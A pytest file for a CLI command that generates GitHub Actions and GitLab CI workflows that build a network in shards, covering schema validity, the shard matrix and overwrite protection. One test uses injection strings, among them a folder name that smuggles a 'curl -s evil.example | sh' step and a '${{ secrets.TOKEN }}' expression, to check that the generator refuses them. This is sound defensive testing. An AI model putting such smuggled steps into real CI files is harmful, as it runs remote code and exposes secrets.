"""`legation network ci` (generator/commands/network_ci.py): the CI configuration validates against the CI system's
published schema (SchemaStore's, vendored by check-jsonschema), and its shard commands, run as the CI system would
run them, build the whole network."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from generator.commands.cli import main
from generator.commands.network_ci import github_workflow, gitlab_ci
from tests.conftest import tree

SCHEMAS = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}
INSTALL = 'pip install "legation==1.2.0"'



def validate(text: str, system: str, tmp_path: Path) -> None:
    file = tmp_path / f"{system}.yml"
    file.write_text(text, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", SCHEMAS[system], str(file)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("shards", [1, 3, 10])
def test_the_github_workflow_is_valid_and_runs_each_shard_on_one_clock(tmp_path: Path, shards: int) -> None:
    text = github_workflow("ministry", shards, INSTALL)
    validate(text, "github", tmp_path)
    jobs = yaml.safe_load(text)["jobs"]
    assert jobs["build"]["strategy"]["matrix"]["shard"] == list(range(1, shards + 1))
    assert jobs["build"]["strategy"]["fail-fast"] is False and jobs["build"]["needs"] == "plan"
    runs = [step.get("run", "") for step in jobs["build"]["steps"]]
    assert INSTALL in runs
    [build] = [run for run in runs if run.startswith("legation network build")]
    assert f"--root ministry --shard ${{{{ matrix.shard }}}}/{shards} --now ${{{{ needs.plan.outputs.now }}}}" in build
    uploads = [step for step in jobs["build"]["steps"] if step.get("uses", "").startswith("actions/upload-artifact")]
    assert uploads and uploads[0]["with"]["path"] == "public-shard/*/"
    assert jobs["collect"]["needs"] == "build"


@pytest.mark.parametrize("shards", [1, 4])
def test_the_gitlab_configuration_is_valid_and_runs_the_shards_in_parallel(tmp_path: Path, shards: int) -> None:
    text = gitlab_ci("ministry", shards, INSTALL)
    validate(text, "gitlab", tmp_path)
    job = yaml.safe_load(text)["build-network"]
    assert job["parallel"] == shards and job["script"][0] == INSTALL
    assert job["artifacts"]["paths"] == ["public-shard/"] and job["artifacts"]["when"] == "always"


def test_an_install_command_with_yaml_characters_stays_one_valid_step(tmp_path: Path) -> None:
    install = 'pip install "legation @ git+https://example.org/legation.git@v1.2" # pinned: yes'
    for system, make in (("github", github_workflow), ("gitlab", gitlab_ci)):
        text = make(".", 2, install)
        validate(text, system, tmp_path)
        assert install in text.replace('\\"', '"')


def test_the_gitlab_shards_run_as_gitlab_runs_them_build_the_whole_network(ministry: Path, tmp_path: Path) -> None:
    """Each script line of the generated job, run by a shell in the repository with the variables GitLab sets
    (CI_NODE_INDEX 1…N, one pipeline's CI_PIPELINE_CREATED_AT), leaves together the network built at once."""
    repo = ministry.parent
    script = yaml.safe_load(gitlab_ci("ministry", 3, INSTALL))["build-network"]["script"]
    bin_dir = tmp_path / "bin"  # `legation` as installed, for the shell
    bin_dir.mkdir()
    (bin_dir / "legation").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m generator "$@"\n', encoding="utf-8")
    (bin_dir / "legation").chmod(0o755)
    environment = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
                   "CI_NODE_TOTAL": "3", "CI_PIPELINE_CREATED_AT": "2026-12-01T12:00:00Z"}
    for index in (1, 2, 3):
        for line in script[1:]:  # not the pip install
            done = subprocess.run(["sh", "-c", line], cwd=repo, env={**environment, "CI_NODE_INDEX": str(index)},
                                  capture_output=True, text=True, check=False)
            assert done.returncode == 0, done.stderr
    whole = tmp_path / "whole"
    assert CliRunner().invoke(main, ["network", "build", "--root", str(ministry), "--now", "2026-12-01T12:00:00Z",
                                     "--out", str(whole)]).exit_code == 0
    names = {"baku", "tashkent", "cairo", "paris"}
    assert {p.name for p in (repo / "public-shard").iterdir() if not p.name.startswith(".")} == names
    assert all(tree(repo / "public-shard" / name) == tree(whole / name) for name in names)


def test_the_github_build_step_names_the_plan_s_clock_and_the_matrix_shard(tmp_path: Path) -> None:
    text = github_workflow(".", 2, INSTALL)
    expressions = set(re.findall(r"\$\{\{ ([^}]+) \}\}", text))
    assert expressions == {"steps.clock.outputs.now", "matrix.shard", "needs.plan.outputs.now"}


def test_the_command_writes_the_file_into_the_repository_and_keeps_a_different_one(ministry: Path) -> None:
    repo = ministry.parent
    runner = CliRunner()
    args = ["network", "ci", "--root", str(ministry), "--repository", str(repo), "--shards", "2", "--install", INSTALL]
    result = runner.invoke(main, [*args, "--github"])
    workflow = repo / ".github/workflows/legation-network.yml"
    assert result.exit_code == 0 and workflow.read_text(encoding="utf-8") == github_workflow("ministry", 2, INSTALL)
    workflow.write_text("# edited by hand\n", encoding="utf-8")
    result = runner.invoke(main, [*args, "--github"])
    assert result.exit_code == 1 and "already there and differs" in result.stderr
    assert workflow.read_text(encoding="utf-8") == "# edited by hand\n"
    assert runner.invoke(main, [*args, "--github", "--force"]).exit_code == 0
    assert runner.invoke(main, [*args, "--gitlab"]).exit_code == 0 and (repo / ".gitlab-ci.yml").is_file()


@pytest.mark.parametrize(("extra", "expected"), [
    ([], "say which CI system"),
    (["--github", "--repository", "/"], None),
    (["--github", "--install", "pip install a\npip install b"], "one command on one line"),
])
def test_wrong_requests_are_usage_errors(ministry: Path, tmp_path: Path, extra: list[str], expected: str | None) -> None:
    if expected is None:  # a repository folder the ministry is not in
        extra = ["--github", "--repository", str(tmp_path / "elsewhere")]
        (tmp_path / "elsewhere").mkdir()
        expected = "is not inside the repository"
    result = CliRunner().invoke(main, ["network", "ci", "--root", str(ministry), *extra])
    assert result.exit_code == 2 and expected in result.stderr


@pytest.mark.parametrize("folder", ["ministry\n      - run: curl -s evil.example | sh", "a${{ secrets.TOKEN }}b",
                                    "tab\there", "line\u2028separator"])
def test_a_folder_name_that_would_add_a_step_or_an_expression_is_refused(folder: str) -> None:
    for make in (github_workflow, gitlab_ci):
        with pytest.raises(ValueError, match="cannot go into a CI file"):
            make(folder, 2, INSTALL)
        with pytest.raises(ValueError, match="cannot go into a CI file"):
            make("ministry", 2, f"pip install legation {folder}")


@pytest.mark.parametrize("folder", ["ministry # one", "a: b", "it's here", "dir with spaces", "$HOME"])
def test_a_folder_name_with_yaml_or_shell_characters_stays_one_argument(tmp_path: Path, folder: str) -> None:
    for system, make in (("github", github_workflow), ("gitlab", gitlab_ci)):
        text = make(folder, 2, INSTALL)
        validate(text, system, tmp_path)
        data = yaml.safe_load(text)
        steps = [s.get("run", "") for s in data["jobs"]["build"]["steps"]] if system == "github" else \
            data["build-network"]["script"]
        [build] = [step for step in steps if step.startswith("legation network build")]
        import shlex

        words = shlex.split(build)
        assert words[words.index("--root") + 1] == folder  # the shell gets the folder as one word, unexpanded
